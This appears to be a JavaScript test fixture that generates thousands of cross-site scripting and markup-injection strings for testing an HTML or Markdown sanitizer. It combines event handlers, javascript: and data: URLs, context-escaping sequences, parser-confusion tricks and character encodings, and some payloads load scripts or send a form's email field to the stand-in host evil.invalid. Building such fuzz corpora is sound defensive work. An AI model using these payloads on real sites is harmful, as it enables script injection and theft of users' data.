// Hostile texts: ways to smuggle script, requests, styles or structure into a page, each in many spellings. They are made, not
// listed: a few dozen ideas of attack, combined with the places where they are put and the ways in which they are encoded.

const EVIL = '//evil.invalid/x';
const SCHEMES = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'vbscript:alert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'file:///etc/passwd', 'blob:x',
  'view-source:x', 'feed:javascript:alert(1)', EVIL, '/logout', '?x', '#manage', '\\\\evil.invalid\\x'];

/** Elements that make something happen without anybody's help, or with a touch. `@` is the script. */
const HANDLERS = ['img src=x onerror=@', 'svg onload=@', 'body onload=@', 'video src=x onerror=@', 'audio src onloadstart=@',
  'input autofocus onfocus=@', 'select autofocus onfocus=@', 'textarea autofocus onfocus=@', 'details open ontoggle=@',
  'marquee onstart=@', 'iframe onload=@', 'object data=x onerror=@', 'embed src=x onload=@', 'style onload=@',
    'a href onmouseover=@',
  'p onpointerenter=@', 'div tabindex=0 onfocusin=@', 'button onclick=@', 'dialog open onclose=@', 'form onsubmit=@',
    'x-y onwheel=@',
  'p style=animation:x onanimationstart=@', 'table onkeydown=@', 'li onauxclick=@', 'bdi oncopy=@', 'time ondrag=@'];
const SCRIPTS = ['alert(1)', 'alert`1`', '"alert(1)"', "'alert(1)'", '`alert(1)`', 'top["al"+"ert"](1)',
  'import("//evil.invalid/x")',
  'location="//evil.invalid/x"'];

/** Whole pieces of HTML. */
const MARKUP = ['<script>alert(1)</script>', `<script src=${EVIL}></script>`, '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<svg><script>alert&lpar;1&rpar;</script></svg>', `<img src=${EVIL}>`,
  `<img srcset="${EVIL} 2x">`, `<video poster=${EVIL}>`, `<input type=image src=${EVIL}>`, `<body background=${EVIL}>`,
  `<table background=${EVIL}><td>`, `<svg><image href=${EVIL}></svg>`, `<svg><use href=${EVIL}#x></svg>`,
  `<svg><feImage href=${EVIL}></svg>`, `<audio src=${EVIL} autoplay>`, `<video><track default src=${EVIL}></video>`,
  `<link rel=stylesheet href=${EVIL}>`, `<link rel=prefetch href=${EVIL}>`, `<link rel=dns-prefetch href=${EVIL}>`,
  `<link rel=modulepreload href=${EVIL}>`, `<meta http-equiv=refresh content="0;url=${EVIL}">`, `<base href=${EVIL}>`,
  `<style>@import "${EVIL}";</style>`, `<style>*{background:url(${EVIL})}</style>`, '<style>main{display:none}</style>',
  `<p style="background:url(${EVIL})">`, '<p style="position:fixed;inset:0">', '<form action=/logout method=post><button>',
  `<form action=${EVIL}><input name=email>`, '<button form=x formaction=javascript:alert(1)>',
    '<input form=x name=once value=1>',
  '<button command=show-modal commandfor=manage>', '<button popovertarget=manage>', '<a href=/logout data-dialog-link>',
  '<form data-submit-on-change>', '<p data-flash>', '<p data-search>', '<img name=cookie>', '<a id=body name=forms>',
    '<form id=forms>',
  '<object data=javascript:alert(1)>', `<embed src=${EVIL}>`, '<math href=javascript:alert(1)>x</math>',
  '<svg><a xlink:href=javascript:alert(1)><text y=9>x', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>', '<area href=javascript:alert(1)>',
    '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>', '<frameset onload=alert(1)>', '<plaintext>', '<xmp>',
    '<listing>',
  '<!--', '<![CDATA[', '<?x ', '<!DOCTYPE x [<!ENTITY y "z">]>&y;', '</main></body></html>', '</section><h1>Log in</h1>',
    '<select><script>alert(1)</script>',
  '<applet code=x>', '<keygen autofocus onfocus=alert(1)>', '<isindex action=javascript:alert(1)>',
    '<noscript><img src=x onerror=alert(1)></noscript>'];

/** What closes the place that a text may stand in. */
const WAYS_OUT = ['">', "'>", '`>', '\\">', '" ', "' ", '-->', ']]>', '</bdi>', '</title>', '</textarea>', '</script>',
  '</style>', '</template>', '</noscript>',
  '</select>', '</svg>', '</dialog>', '</option></select>', '%>', '*/', '";', "';", '${', '{{', '<%', '\n\n', '&#34;>',
    '%22%3E', '\\u0022>'];

/** Elements in which a parser changes its mind about what follows. */
const ROOTS = ['<svg>', '<math>', '<svg><foreignObject>', '<svg><desc>', '<svg><title>', '<math><mtext>', '<math><mi>',
  '<math><annotation-xml encoding="text/html">',
  '<form><math><mtext></form><form>', '<table><svg>'];
const TURNS = ['<style><!--</style>', '<style><a title="</style>', '<noscript><p title="</noscript>',
  '<textarea><a title="</textarea>', '<title><a title="</title>',
  '<xmp><a title="</xmp>', '<mglyph><style></math>', '<malignmark><style></math>', '<table><p><style><!--</style>',
    '<p><style><![CDATA[</style>', '<!--><', '<a title="--><'];

/** Places in the Markdown of a note. */
const PLACES = ['@', '`@`', '**@**', '*@*', '~~@~~', '- @', '1. @', '> @', '# @', '    @', '```\n@\n```',
  '[@](https://a.example)', '[x](@)', '[x](<@>)',
  '[x](https://a.example "@")', "[x](https://a.example '@')", '![@](x)', '![x](@)', '[x][@]', '[@]: x', '[x][y]\n\n[y]: @',
    '<@>', '\\@', 'x\n@\n===',
  '<div>\n@', '<div>\n\n@', '| @ |\n| - |', 'https://a.example/@', '<https://a.example/@>'];

const each = (text, code) => [...text].map(code).join('');
/** Ways to write the same letters. */
const SPELLINGS = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => each(text, (letter) => `&#${letter.codePointAt(0)};`),
  (text) => each(text, (letter) => `&#x${letter.codePointAt(0).toString(16)}`),
  (text) => each(text, (letter) => `&#${String(letter.codePointAt(0)).padStart(7, '0')}`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '%C0%BC').replaceAll('>', '%C0%BE'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\\<'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replace('>', ''),
  (text) => text.toUpperCase(),
  (text) => text.replace(' ', '\t'),
  (text) => text.replace(' ', '\f'),
  (text) => text.replace(' ', '/'),
  (text) => text.replace('<', '<\u200B'),
  (text) => text.replace(/(?<=<)\w/, '$&\u00AD'),
  (text) => text.replace('=', ' = '),
];
/** Ways to write a scheme that browsers may still read. */
const SCHEME_SPELLINGS = [(text) => text, (text) => text.replace(':', '&colon;'), (text) => text.replace(':', '&#58'),
  (text) => text.replace(':', '%3A'),
  (text) => `\u0001${text}`, (text) => ` ${text}`, (text) => text.replace(/^../, '$&\t'),
    (text) => text.replace(/^../, '$&&Tab;'),
  (text) => text.replace(/^../, '$&&NewLine;'), (text) => `\u00A0${text}`,
    (text) => each(text, (letter) => `&#${letter.codePointAt(0)};`)];

function* cross(...lists) {
  const [first, ...rest] = lists;
  for (const one of first) {
    if (rest.length === 0) yield [one];
    else for (const others of cross(...rest)) yield [one, ...others];
  }
}
const put = (place, text) => place.replace('@', () => text);

function* all() {
  for (const [handler, script] of cross(HANDLERS, SCRIPTS)) yield `<${put(handler, script)}>`;
  for (const [way, markup] of cross(WAYS_OUT, MARKUP.slice(0, 12))) yield `${way}${markup}`;
  for (const [root, turn] of cross(ROOTS, TURNS)) yield `${root}${turn}<img src=x onerror=alert(1)>`;
  for (const [place, markup] of cross(PLACES, MARKUP.slice(0, 22))) yield put(place, markup);
  for (const [spell, markup] of cross(SPELLINGS, MARKUP)) yield spell(markup);
  for (const [place, scheme, spell] of cross(['[x](@)', '[x](<@>)', '![x](@)', '<@>', '[x][y]\n\n[y]: @',
    '@'], SCHEMES, SCHEME_SPELLINGS)) {
    yield put(place, spell(scheme));
  }
  for (const [place, scheme] of cross(['<a href="@">x</a>', '<iframe src="@">', '<form action="@"><button>x',
    '<embed src="@">'], SCHEMES)) yield put(place, scheme);
}

/** All of them, each once: texts with NUL, which nothing here can hold, and empty ones are left out. */
export const ATTACKS = [...new Set(all())].filter((text) => text.trim() !== '' && !text.includes('\0'));

/** `count` of these texts, evenly from all kinds; all when `count` is missing. */
export function some(texts, count = texts.length) {
  const step = Math.max(1, texts.length / count);
  return Array.from({ length: Math.min(count, texts.length) }, (_, at) => texts[Math.floor(at * step)]);
}

/** Those with at most `most` characters. */
export const upTo = (most) => ATTACKS.filter((text) => [...text].length <= most);
